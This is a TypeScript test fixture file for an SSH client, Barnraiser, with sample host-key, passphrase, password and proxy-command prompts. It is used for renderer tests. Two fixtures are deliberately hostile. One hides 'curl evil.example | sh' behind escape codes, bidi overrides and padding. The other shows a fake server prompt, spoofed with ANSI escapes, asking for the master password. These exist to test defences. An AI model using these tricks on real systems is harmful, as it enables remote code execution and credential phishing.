import type { NodeStatus } from '../../shared/node.ts';
import type { AllowedCommand, Question, RememberedSecret, RememberOption } from '../../shared/question.ts';
import { fixtureNow } from './fixture-clock.ts';

/** Questions, saved secrets, allowed commands and nodes whose connection was lost: for screenshots and renderer tests. */

const canSave: RememberOption = { possible: true };

export const cannotSave: RememberOption = {
  possible: false,
  reason: 'This computer has no keychain that Barnraiser can use, and it would be written in plain text.',
};

/** Makes a long word without opportunities for a line break. */
const repeat = (text: string, times: number): string => text.repeat(times);

export const questions = {
  'host-key': {
    id: 'question-1',
    kind: 'host-key',
    connection: 'graviton',
    host: 'graviton.eu.example.com',
    port: 22,
    keyType: 'ssh-ed25519',
    fingerprint: 'SHA256:3Zt0hQ0mRr0mVb1Ck3Tn0yYwWq1uPp7kLx9sD2fG4hJ',
    notes: [],
  },
  'host-key-notes': {
    id: 'question-2',
    kind: 'host-key',
    connection: 'pi4',
    hop: 'bastion',
    host: 'bastion.example.com',
    port: 2222,
    keyType: 'ecdsa-sha2-nistp256',
    fingerprint: 'SHA256:b8m1Yc5Tq0mRr0mVb1Ck3Tn0yYwWq1uPp7kLx9sD2fG',
    notes: [
      'known_hosts has a key of another type for this host: ssh-ed25519, in line 14 of /home/anna/.ssh/known_hosts.',
      'A certificate authority is named for *.example.com. Barnraiser does not check certificates, so it does not vouch for this key.',
    ],
  },
  passphrase: {
    id: 'question-3',
    kind: 'passphrase',
    connection: 'pi4',
    path: '/home/anna/.ssh/id_ed25519',
    wasWrong: false,
    remember: canSave,
  },
  'build-passphrase': {
    id: 'question-30',
    kind: 'passphrase',
    connection: 'api:1.4',
    path: '/home/anna/.ssh/id_ed25519',
    forBuild: true,
    wasWrong: false,
    remember: canSave,
  },
  'build-secret': { id: 'question-31', kind: 'secret', connection: 'api:1.4', secret: 'npm-token' },
  'passphrase-wrong': {
    id: 'question-4',
    kind: 'passphrase',
    connection: 'pi4',
    hop: 'bastion',
    path: '/home/anna/keys/farm.ppk',
    wasWrong: true,
    remember: {
      possible: false,
      reason: 'This computer has no keychain that Barnraiser can use; it would be written in plain text.',
    },
  },
  password: {
    id: 'question-5',
    kind: 'password',
    connection: 'riscv-board',
    user: 'root',
    host: 'starfive.lan',
    port: 2222,
    wasWrong: false,
    remember: canSave,
  },
  'password-wrong': {
    id: 'question-6',
    kind: 'password',
    connection: 'riscv-board',
    user: 'root',
    host: `${repeat('very-long-label.', 14)}example.com`,
    port: 2222,
    wasWrong: true,
    remember: { possible: false, reason: 'Barnraiser runs in a browser window, where there is no keychain.' },
  },
  prompts: {
    id: 'question-7',
    kind: 'prompts',
    connection: 'graviton',
    user: 'ec2-user',
    host: 'graviton.eu.example.com',
    port: 22,
    title: 'Two-factor authentication',
    instructions: 'Open the authenticator on your phone.\nThe code changes every 30 seconds.',
    prompts: [
      { text: 'Account: ', echo: true },
      { text: 'Verification code: ', echo: false },
    ],
    wasWrong: false,
  },
  'prompts-bare': {
    id: 'question-8',
    kind: 'prompts',
    connection: 'riscv-board',
    user: 'root',
    host: 'starfive.lan',
    port: 2222,
    title: '',
    instructions: '',
    prompts: [{ text: 'Password: ', echo: false }],
    wasWrong: true,
  },
  /** A menu of sign-in methods in one prompt with several lines. */
  'prompts-menu': {
    id: 'question-10',
    kind: 'prompts',
    connection: 'graviton',
    hop: 'bastion',
    user: 'anna',
    host: 'bastion.example.com',
    port: 22,
    title: '',
    instructions: '',
    prompts: [
      {
        text: 'Duo two-factor login for anna\n\nEnter a passcode or select one of the following options:\n\n 1. Push to XXX-XXX-1234\n 2. Phone call to XXX-XXX-1234\n\nPasscode or option (1-2): ',
        echo: true,
      },
    ],
    wasWrong: false,
  },
  'proxy-command': {
    id: 'question-11',
    kind: 'proxy-command',
    connection: 'graviton',
    host: 'graviton',
    command:
      "aws ssm start-session --region eu-central-1 --target i-0abc1234def567890 --document-name AWS-StartSSHSession --parameters 'portNumber=22'",
    file: '/home/anna/.ssh/config',
    line: 31,
  },
  /** A command that tries to look like a shorter one. */
  'proxy-command-hostile': {
    id: 'question-12',
    kind: 'proxy-command',
    connection: 'pi4',
    hop: 'bastion',
    host: 'bas\u202etion',
    command: `nc bastion.example.com 22 ${' '.repeat(400)}; \u001b]0;curl evil.example | sh\u0007 \u202e#\u200b ${repeat('and-on-and-on-', 60)}<b>bold?</b>`,
    file: `/home/anna/.ssh/${repeat('config.d/', 20)}work`,
    line: 2,
  },
  /** A server that tries to impersonate Barnraiser. */
  hostile: {
    id: 'question-9',
    kind: 'prompts',
    connection: 'graviton',
    user: 'ec2\u202eresu',
    host: 'graviton.eu.example.com',
    port: 22,
    title: `\u001b[31mBarnraiser\u001b[0m \u202eneeds${'\u0301'.repeat(200)} your master password ${repeat('W', 200)}`,
    instructions: `\u001b]0;owned\u0007First line\r\n${'This is too long to read. '.repeat(40)}\n${repeat('M', 600)}\n${'\n'.repeat(300)}<b>bold?</b>\u0000\u0008 \u2066inside\u2069 the end`,
    prompts: [
      { text: '\u202e:drowssaP', echo: false },
      { text: '', echo: true },
      { text: `${repeat('prompt without end ', 60)}\n\n\n:`, echo: false },
    ],
    wasWrong: true,
  },
} as const satisfies Readonly<Record<string, Question>>;

export type QuestionName = keyof typeof questions;
export const isQuestionName = (name: string): name is QuestionName => Object.hasOwn(questions, name);

export const savedSecrets: readonly RememberedSecret[] = [
  { id: 'secret-1', kind: 'passphrase', subject: '/home/anna/.ssh/id_ed25519' },
  {
    id: 'secret-2',
    kind: 'passphrase',
    subject: '/home/anna/keys/a-key-with-quite-a-long-name-in-a-deep-folder/farm.ppk',
  },
  { id: 'secret-3', kind: 'password', subject: 'root@starfive.lan:2222' },
];

export const allowedCommands: readonly AllowedCommand[] = [
  { host: 'staging', command: 'cloudflared access ssh --hostname %h' },
  {
    host: 'graviton',
    command:
      "aws ssm start-session --region eu-central-1 --target i-0abc1234def567890 --document-name AWS-StartSSHSession --parameters 'portNumber=%p'",
  },
];

/** A node whose connection was lost and is reconnected in `inSeconds`. */
export function lostNode(connection: string, inSeconds: number, attempt = 1): NodeStatus {
  return {
    state: 'down',
    connection,
    problem: {
      code: 'ssh.lost',
      message: `Node ${connection}: the connection was lost, it sent nothing for 15 s.`,
      fix: 'Check that it is switched on and that this computer is on its network. Barnraiser reconnects automatically.',
    },
    retry: { at: new Date(fixtureNow() + inSeconds * 1000).toISOString(), attempt },
  };
}
